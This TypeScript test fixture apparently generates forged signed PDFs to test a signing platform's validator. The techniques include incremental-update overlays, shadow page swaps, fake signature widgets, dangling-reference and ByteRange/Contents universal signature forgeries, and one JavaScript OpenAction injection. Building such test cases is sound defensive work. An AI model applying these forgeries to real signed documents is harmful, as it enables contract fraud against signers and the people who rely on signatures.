import type { PdfDocument } from '../../src/engines/pdf/syntax/document';
import { dict, name, PdfDict, PdfRef, PdfStream, PdfString, type PdfValue } from '../../src/engines/pdf/syntax/objects';
import { appendRevision, patchLast } from './tamper';
import { classicPdf } from './hostile';
import { samplePdf } from './sample-pdf';
import { firstPage } from './foreign-signer';

/**
 * Forged documents, each crafted here the way an attacker would (issue 14; Mladenov et al. 2019,
 * Mainka et al. 2021): on documents the platform signed, and on documents the attacker prepared
 * before the platform signed them. Used by the engine's tests, the API tests and the fuzz run.
 */
export interface AttackContext {
  /** The platform signs (a test signer, or the API on the local stack). */
  sign(pdf: Uint8Array): Promise<Uint8Array>;
  /** The kind of cross-reference section of the documents the platform signs (default: stream). */
  xref?: 'table' | 'stream';
}

const sample = (ctx: AttackContext, pages = 1): Promise<Uint8Array> => samplePdf({ pages, xref: ctx.xref ?? 'stream' });

export interface Attack {
  name: string;
  family: 'incremental saving' | 'shadow' | 'overlay widget' | 'evil annotation' | 'sneaky signature' | 'dangling reference' | 'whitelisting by number' | 'signature wrapping' | 'universal signature forgery' | 'structure';
  make(ctx: AttackContext): Promise<Uint8Array>;
}

const stream = (text: string, entries: Record<string, PdfValue> = {}): PdfStream => new PdfStream(dict(entries), Buffer.from(text, 'latin1'));
const WHITE_BOX = '1 1 1 rg 60 680 480 120 re f 0 0 0 rg BT /Helv 28 Tf 72 730 Td (PAY 1,000,000 TO ATTACKER) Tj ET';

function pageOf(doc: PdfDocument): { ref: PdfRef; page: PdfDict } {
  const ref = firstPage(doc);
  return { ref, page: doc.dict(ref)! };
}
function firstField(doc: PdfDocument): { ref: PdfRef; field: PdfDict; sig: PdfRef } {
  const form = doc.dict(doc.dict(doc.trailer.get('Root'))!.get('AcroForm'))!;
  const ref = (doc.resolve(form.get('Fields')) as PdfValue[])[0] as PdfRef;
  const field = doc.dict(ref)!;
  return { ref, field, sig: field.get('V') as PdfRef };
}
const asList = (v: PdfValue | undefined): PdfValue[] => (Array.isArray(v) ? v : v === undefined ? [] : [v]);

/** Adds `annot` to page 1's /Annots, wherever that list lives. */
function addToAnnots(doc: PdfDocument, u: import('../../src/engines/pdf/sign/incremental-update').IncrementalUpdate, annot: PdfRef): void {
  const { ref, page } = pageOf(doc);
  const annots = page.get('Annots');
  if (annots instanceof PdfRef) u.set(annots, [...asList(doc.resolve(annots)), annot]);
  else u.set(ref, page.clone().set('Annots', [...asList(annots), annot]));
}

/** A document the attacker writes by hand before asking the platform to sign it. */
function prepared(objects: string[], trailer = ''): Uint8Array {
  return classicPdf(objects, { trailer });
}
const PAGE_TEXT = 'BT /F1 18 Tf 72 760 Td (Contract: pay 100 yuan) Tj ET';
const font = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>';

export const ATTACKS: Attack[] = [
  {
    name: 'content drawn over page 1 after signing (white box, "PAY 1,000,000")',
    family: 'incremental saving',
    async make(ctx) {
      return appendRevision(await ctx.sign(await sample(ctx, 2)), (doc, u) => {
        const { ref, page } = pageOf(doc);
        const extra = u.add(stream(WHITE_BOX));
        u.set(ref, page.clone().set('Contents', [...asList(page.get('Contents')), extra]));
      });
    },
  },
  {
    name: 'an existing content stream redefined',
    family: 'shadow',
    async make(ctx) {
      return appendRevision(await ctx.sign(await sample(ctx)), (doc, u) => {
        const contents = pageOf(doc).page.get('Contents');
        u.set(asList(contents)[0] as PdfRef, stream(WHITE_BOX));
      });
    },
  },
  {
    name: 'pages reordered (hide-and-replace through the page tree)',
    family: 'shadow',
    async make(ctx) {
      return appendRevision(await ctx.sign(await sample(ctx, 2)), (doc, u) => {
        const pagesRef = doc.dict(doc.trailer.get('Root'))!.get('Pages') as PdfRef;
        const pages = doc.dict(pagesRef)!;
        u.set(pagesRef, pages.clone().set('Kids', [...(doc.resolve(pages.get('Kids')) as PdfValue[])].reverse()));
      });
    },
  },
  {
    name: 'an unsigned signature widget covering the page (hide)',
    family: 'shadow',
    async make(ctx) {
      return appendRevision(await ctx.sign(await sample(ctx)), (doc, u) => {
        const ap = u.add(stream('1 1 1 rg 0 0 500 100 re f', { Type: name('XObject'), Subtype: name('Form'), BBox: [0, 0, 500, 100] }));
        addToAnnots(doc, u, u.add(dict({ Type: name('Annot'), Subtype: name('Widget'), FT: name('Sig'), Rect: [50, 700, 550, 800], AP: dict({ N: ap }) })));
      });
    },
  },
  {
    name: 'a widget whose /Parent is the already-signed field',
    family: 'overlay widget',
    async make(ctx) {
      return appendRevision(await ctx.sign(await sample(ctx)), (doc, u) => {
        const { ref } = firstField(doc);
        const ap = u.add(stream(WHITE_BOX, { Type: name('XObject'), Subtype: name('Form'), BBox: [0, 0, 600, 850] }));
        const widget = u.add(dict({ Type: name('Annot'), Subtype: name('Widget'), Parent: ref, Rect: [0, 0, 600, 850], AP: dict({ N: ap }), P: pageOf(doc).ref }));
        addToAnnots(doc, u, widget);
      });
    },
  },
  {
    name: 'a /FT /Sig widget reusing the signed /V, only in the page’s /Annots',
    family: 'overlay widget',
    async make(ctx) {
      return appendRevision(await ctx.sign(await sample(ctx)), (doc, u) => {
        const { sig } = firstField(doc);
        const ap = u.add(stream(WHITE_BOX, { Type: name('XObject'), Subtype: name('Form'), BBox: [0, 0, 600, 850] }));
        addToAnnots(doc, u, u.add(dict({ Type: name('Annot'), Subtype: name('Widget'), FT: name('Sig'), V: sig, T: PdfString.of('Seal9'), Rect: [0, 0, 600, 850], AP: dict({ N: ap }) })));
      });
    },
  },
  {
    name: 'a new field whose /V reuses the existing signature dictionary',
    family: 'overlay widget',
    async make(ctx) {
      return appendRevision(await ctx.sign(await sample(ctx)), (doc, u) => {
        const root = doc.trailer.get('Root') as PdfRef;
        const catalog = doc.dict(root)!;
        const { sig } = firstField(doc);
        const ap = u.add(stream(WHITE_BOX, { Type: name('XObject'), Subtype: name('Form'), BBox: [0, 0, 600, 850] }));
        const field = u.add(dict({ Type: name('Annot'), Subtype: name('Widget'), FT: name('Sig'), V: sig, T: PdfString.of('Seal9'), Rect: [0, 0, 600, 850], AP: dict({ N: ap }), P: pageOf(doc).ref }));
        const formValue = catalog.get('AcroForm');
        const form = doc.dict(formValue)!;
        const fields = form.get('Fields');
        if (fields instanceof PdfRef) u.set(fields, [...asList(doc.resolve(fields)), field]);
        else if (formValue instanceof PdfRef) u.set(formValue, form.clone().set('Fields', [...asList(fields), field]));
        else u.set(root, catalog.clone().set('AcroForm', form.clone().set('Fields', [...asList(fields), field])));
        addToAnnots(doc, u, field);
      });
    },
  },
  {
    name: 'a FreeText annotation "PAY 1,000,000" added after signing',
    family: 'evil annotation',
    async make(ctx) {
      return appendRevision(await ctx.sign(await sample(ctx)), (doc, u) => {
        const ap = u.add(stream(WHITE_BOX, { Type: name('XObject'), Subtype: name('Form'), BBox: [0, 0, 600, 850] }));
        addToAnnots(doc, u, u.add(dict({ Type: name('Annot'), Subtype: name('FreeText'), Rect: [0, 0, 600, 850], Contents: PdfString.of('PAY 1,000,000'), DA: PdfString.of('/Helv 28 Tf 0 g'), AP: dict({ N: ap }) })));
      });
    },
  },
  {
    name: 'a new signature field with an overlay appearance and a value that signs nothing',
    family: 'sneaky signature',
    async make(ctx) {
      return appendRevision(await ctx.sign(await sample(ctx)), (doc, u) => {
        const root = doc.trailer.get('Root') as PdfRef;
        const catalog = doc.dict(root)!;
        const fake = u.add(dict({ Type: name('Sig'), Filter: name('Adobe.PPKLite'), SubFilter: name('adbe.pkcs7.detached'), ByteRange: [0, 10, 20, 10], Contents: new PdfString(new Uint8Array(64), true) }));
        const ap = u.add(stream(WHITE_BOX, { Type: name('XObject'), Subtype: name('Form'), BBox: [0, 0, 600, 850] }));
        const field = u.add(dict({ Type: name('Annot'), Subtype: name('Widget'), FT: name('Sig'), V: fake, T: PdfString.of('Sneaky'), Rect: [0, 0, 600, 850], AP: dict({ N: ap }), P: pageOf(doc).ref }));
        const formValue = catalog.get('AcroForm');
        const form = doc.dict(formValue)!;
        const fields = form.get('Fields');
        if (fields instanceof PdfRef) u.set(fields, [...asList(doc.resolve(fields)), field]);
        else if (formValue instanceof PdfRef) u.set(formValue, form.clone().set('Fields', [...asList(fields), field]));
        else u.set(root, catalog.clone().set('AcroForm', form.clone().set('Fields', [...asList(fields), field])));
        addToAnnots(doc, u, field);
      });
    },
  },
  {
    name: 'bytes appended after the last %%EOF',
    family: 'incremental saving',
    async make(ctx) {
      return new Uint8Array(Buffer.concat([await ctx.sign(await sample(ctx)), Buffer.from('\n99 0 obj\n<</Evil true>>\nendobj\n')]));
    },
  },
  {
    name: 'the catalog replaced by a new one',
    family: 'structure',
    async make(ctx) {
      let oldRoot = 0;
      let newRoot = 0;
      const bytes = appendRevision(await ctx.sign(await sample(ctx)), (doc, u) => {
        const root = doc.trailer.get('Root') as PdfRef;
        oldRoot = root.num;
        newRoot = u.add(doc.dict(root)!.clone().set('OpenAction', dict({ S: name('JavaScript'), JS: PdfString.of('app.alert(1)') }))).num;
      });
      // The writer copies /Root from the previous trailer: point the new one at the copy by hand.
      const text = Buffer.from(bytes).toString('latin1');
      const at = text.lastIndexOf(`/Root ${oldRoot} 0 R`);
      return new Uint8Array(Buffer.from(text.slice(0, at) + `/Root ${newRoot} 0 R` + text.slice(at + `/Root ${oldRoot} 0 R`.length), 'latin1'));
    },
  },
  {
    name: 'JavaScript added to the catalog (/OpenAction)',
    family: 'structure',
    async make(ctx) {
      return appendRevision(await ctx.sign(await sample(ctx)), (doc, u) => {
        const root = doc.trailer.get('Root') as PdfRef;
        u.set(root, doc.dict(root)!.clone().set('OpenAction', dict({ S: name('JavaScript'), JS: PdfString.of('app.alert(1)') })));
      });
    },
  },
  {
    name: 'a font freed after signing',
    family: 'structure',
    async make(ctx) {
      const signed = await ctx.sign(await sample(ctx));
      return appendRevision(signed, (doc, u) => {
        const resources = doc.dict(pageOf(doc).page.get('Resources'))!;
        const fonts = doc.dict(resources.get('Font'))!;
        const fontRef = [...fonts.map.values()].find((v) => v instanceof PdfRef) as PdfRef;
        u.set(fontRef, null);
      });
    },
  },
  {
    name: 'Info aliases the page’s content stream, then the "Info" changes (prepared before signing)',
    family: 'whitelisting by number',
    async make(ctx) {
      const pdf = prepared(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids [3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox [0 0 595 842]/Contents 4 0 R/Resources <</Font <</F1 5 0 R>>>>>>', `<</Length ${PAGE_TEXT.length}>>\nstream\n${PAGE_TEXT}\nendstream`, font], '/Info 4 0 R');
      return appendRevision(await ctx.sign(pdf), (_doc, u) => u.set(new PdfRef(4, 0), stream(WHITE_BOX)));
    },
  },
  {
    name: 'Info aliases the page itself, then the "Info" gains new contents (prepared before signing)',
    family: 'whitelisting by number',
    async make(ctx) {
      const pdf = prepared(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids [3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox [0 0 595 842]/Contents 4 0 R/Resources <</Font <</F1 5 0 R>>>>>>', `<</Length ${PAGE_TEXT.length}>>\nstream\n${PAGE_TEXT}\nendstream`, font], '/Info 3 0 R');
      return appendRevision(await ctx.sign(pdf), (doc, u) => {
        const page = doc.dict(new PdfRef(3, 0))!;
        u.set(new PdfRef(3, 0), page.clone().set('Contents', [new PdfRef(4, 0), u.add(stream(WHITE_BOX))]));
      });
    },
  },
  {
    name: 'a page’s /Contents array grows by a stream dressed as a signature widget (prepared before signing)',
    family: 'whitelisting by number',
    async make(ctx) {
      const pdf = prepared(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids [3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox [0 0 595 842]/Contents 6 0 R/Resources <</Font <</F1 5 0 R>>>>>>', `<</Length ${PAGE_TEXT.length}>>\nstream\n${PAGE_TEXT}\nendstream`, font, '[4 0 R]']);
      const signed = await ctx.sign(pdf);
      return appendRevision(signed, (doc, u) => {
        const { sig } = firstField(doc);
        const disguised = u.add(stream(WHITE_BOX, { Type: name('Annot'), Subtype: name('Widget'), FT: name('Sig'), V: sig, Rect: [0, 0, 1, 1] }));
        u.set(new PdfRef(6, 0), [new PdfRef(4, 0), disguised]);
      });
    },
  },
  {
    name: 'the signed page draws an object undefined at signing time; a later revision defines it (prepared before signing)',
    family: 'dangling reference',
    async make(ctx) {
      const pdf = prepared(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids [3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox [0 0 595 842]/Contents [4 0 R 99 0 R]/Resources <</Font <</F1 5 0 R>>>>>>', `<</Length ${PAGE_TEXT.length}>>\nstream\n${PAGE_TEXT}\nendstream`, font]);
      return appendRevision(await ctx.sign(pdf), (_doc, u) => u.set(new PdfRef(99, 0), stream(WHITE_BOX)));
    },
  },
  {
    name: 'the signed page names an XObject undefined at signing time; a later revision defines it (prepared before signing)',
    family: 'dangling reference',
    async make(ctx) {
      const content = `${PAGE_TEXT} /X1 Do`;
      const pdf = prepared(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids [3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox [0 0 595 842]/Contents 4 0 R/Resources <</Font <</F1 5 0 R>>/XObject <</X1 98 0 R>>>>>>', `<</Length ${content.length}>>\nstream\n${content}\nendstream`, font]);
      return appendRevision(await ctx.sign(pdf), (_doc, u) => u.set(new PdfRef(98, 0), stream(WHITE_BOX, { Type: name('XObject'), Subtype: name('Form'), BBox: [0, 0, 595, 842] })));
    },
  },
  {
    name: 'the signature dictionary redefined in a later revision',
    family: 'signature wrapping',
    async make(ctx) {
      return appendRevision(await ctx.sign(await sample(ctx)), (doc, u) => {
        const { sig } = firstField(doc);
        u.set(sig, doc.dict(sig)!.clone().set('Reason', PdfString.of('changed')));
      });
    },
  },
  {
    name: 'a ByteRange whose gap is not exactly the /Contents string',
    family: 'signature wrapping',
    async make(ctx) {
      const signed = await ctx.sign(await sample(ctx));
      const m = /\/ByteRange \[0 (\d+) (\d+) (\d+)\s*\]/.exec(Buffer.from(signed).toString('latin1'))!;
      const [a, b, c] = [Number(m[1]), Number(m[2]), Number(m[3])];
      return patchLast(signed, m[0], `/ByteRange [0 ${a} ${b + 2} ${c - 2}]`.padEnd(m[0].length, ' '));
    },
  },
  ...(
    [
      ['a null ByteRange', (m: string) => '/ByteRange null'.padEnd(m.length, ' ')],
      ['a ByteRange that excludes nothing', (m: string) => '/ByteRange [0 0 0 0]'.padEnd(m.length, ' ')],
      ['overlapping ranges', (m: string) => '/ByteRange [0 900 100 900]'.padEnd(m.length, ' ')],
    ] as const
  ).map(
    ([label, forge]): Attack => ({
      name: `universal signature forgery: ${label}`,
      family: 'universal signature forgery',
      async make(ctx) {
        const signed = await ctx.sign(await sample(ctx));
        const m = /\/ByteRange \[0 \d+ \d+ \d+\s*\]/.exec(Buffer.from(signed).toString('latin1'))![0];
        return patchLast(signed, m, forge(m));
      },
    }),
  ),
  {
    name: 'universal signature forgery: empty /Contents',
    family: 'universal signature forgery',
    async make(ctx) {
      const signed = await ctx.sign(await sample(ctx));
      const m = /\/Contents <([0-9a-f]+)>/.exec(Buffer.from(signed).toString('latin1'))!;
      return patchLast(signed, m[0], `/Contents <${'0'.repeat(m[1]!.length)}>`);
    },
  },
];
